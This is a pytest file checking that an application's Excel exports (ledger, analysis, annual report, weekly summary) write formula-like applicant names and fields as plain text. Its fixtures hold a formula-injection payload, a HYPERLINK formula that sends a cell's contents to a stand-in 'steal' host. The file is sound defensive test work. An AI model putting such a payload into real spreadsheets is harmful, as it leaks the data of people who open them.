"""Every workbook the app writes keeps text as text: an applicant named “=HYPERLINK(…)” never becomes a live
formula (issue 21 item 5: the 重复申请人 sheet wrote such names as formulas that sent the row away)."""

import zipfile
from datetime import date

import openpyxl
import pytest

from app.services.reports.analysis_service import AnalysisService
from app.services.ledger.ledger_service import LedgerService
from app.services.reports.report_service import ReportService
from app.workflow.ledger_row import COLUMNS
from tests.conftest import fixed_today

TODAY = date(2025, 6, 30)
EVIL = '=HYPERLINK("http://x.example/steal?d="&A2,"点我")'
EVIL_CONTENT = "+SUM(1,2) 申请公开某小区规划许可证"


def _ledger(path):
    wb = openpyxl.Workbook()
    wb.active.append(list(COLUMNS))
    # The same applicant three times, so the 重复申请人 sheet lists the name.
    for i, received in enumerate((date(2025, 3, 3), date(2025, 3, 4), date(2025, 3, 5)), start=1):
        row = {c: None for c in COLUMNS}
        row.update({"申请编号": f"F-{i}", "收到日期": received, "申请方式": "当面", "申请人": EVIL,
                    "申请人类型": "自然人", "申请内容": EVIL_CONTENT, "办理结果": "予以公开",
                    "答复日期": date(2025, 3, 20)})
        wb.active.append([row[c] for c in COLUMNS])
    # openpyxl would store the names as formulas in this input file too: make them text here.
    for ws_row in wb.active.iter_rows(min_row=2):
        for cell in ws_row:
            if isinstance(cell.value, str) and cell.value[:1] in "=+":
                cell.data_type = "s"
    wb.save(path)


def _formula_cells(path) -> list[str]:
    z = zipfile.ZipFile(path)
    sheets = [n for n in z.namelist() if n.startswith("xl/worksheets/sheet")]
    assert sheets
    return [n for n in sheets if "<f>" in z.read(n).decode() or "<f " in z.read(n).decode()]


@pytest.fixture
def evil_db(any_db, tmp_path, clerk):
    _ledger(tmp_path / "in.xlsx")
    assert LedgerService(any_db, fixed_today(TODAY)).import_file(clerk, tmp_path / "in.xlsx").ok
    return any_db


def test_ledger_export_writes_formula_text_as_text(evil_db, tmp_path):
    out = tmp_path / "台账.xlsx"
    LedgerService(evil_db, fixed_today(TODAY)).export_file(out, year=2025)
    assert _formula_cells(out) == []
    ws = openpyxl.load_workbook(out).active
    names = [c.value for row in ws.iter_rows() for c in row if c.value == EVIL]
    assert len(names) == 3                      # the name survives unchanged, as text


def test_analysis_workbook_writes_repeat_applicant_as_text(evil_db, clerk, tmp_path):
    out = tmp_path / "分析.xlsx"
    AnalysisService(evil_db, fixed_today(TODAY)).export(clerk, date(2025, 3, 1), date(2025, 3, 31), out)
    assert _formula_cells(out) == []
    wb = openpyxl.load_workbook(out)
    texts = [c for ws in wb for row in ws.iter_rows() for c in row
             if isinstance(c.value, str) and c.value[:1] in "=+-@"]
    assert texts, "the formula-like text is in the workbook, as text"
    assert all(c.data_type == "s" for c in texts)


def test_annual_report_workbook_writes_formula_text_as_text(evil_db, tmp_path):
    data = ReportService(evil_db, fixed_today(TODAY)).report(2025)
    data = data.__class__(**{**data.__dict__, "agency_name": EVIL})
    from app.exports.annual_report_xlsx import write_annual_report_xlsx
    write_annual_report_xlsx(data, tmp_path / "年报.xlsx")
    assert _formula_cells(tmp_path / "年报.xlsx") == []


def test_weekly_summary_writes_formula_text_as_text(tmp_path):
    from app.exports.supervision_xlsx import DepartmentWeek, WeeklySummary, write_weekly_summary
    summary = WeeklySummary(agency_name=EVIL, week="2025年3月17日—2025年3月23日", as_of="2025-03-21",
                            rows=(DepartmentWeek(EVIL, 1, 1, 0, 0),),
                            details=((EVIL, "=1+1"),), detail_headers=("处室", "申请编号"))
    write_weekly_summary(summary, tmp_path / "周报.xlsx")
    assert _formula_cells(tmp_path / "周报.xlsx") == []
    wb = openpyxl.load_workbook(tmp_path / "周报.xlsx")
    assert any(c.value == "=1+1" and c.data_type == "s" for ws in wb for row in ws.iter_rows() for c in row)


def test_control_characters_stored_earlier_do_not_crash_a_workbook(tmp_path):
    """A 会商 topic with a BEL (\\x07) stored before entry points refused it: the 周报 still saves, without it."""
    from app.exports.cells import append
    wb = openpyxl.Workbook()
    append(wb.active, ["会商\x07议题", "=A1"])
    wb.save(tmp_path / "c.xlsx")
    back = openpyxl.load_workbook(tmp_path / "c.xlsx").active
    assert [back.cell(1, 1).value, back.cell(1, 2).value] == ["会商议题", "=A1"]
    assert back.cell(1, 2).data_type == "s"


def test_every_workbook_writer_goes_through_the_cell_writer():
    """A module that creates a Workbook writes its cells through app.exports.cells (the one cell writer)."""
    from pathlib import Path
    root = Path(__file__).resolve().parents[2] / "app"
    writers = [p for p in root.rglob("*.py") if "Workbook(" in p.read_text(encoding="utf-8")]
    assert writers
    strays = [str(p.relative_to(root)) for p in writers
              if "cells" not in p.read_text(encoding="utf-8") and p.name != "cells.py"]
    assert strays == []
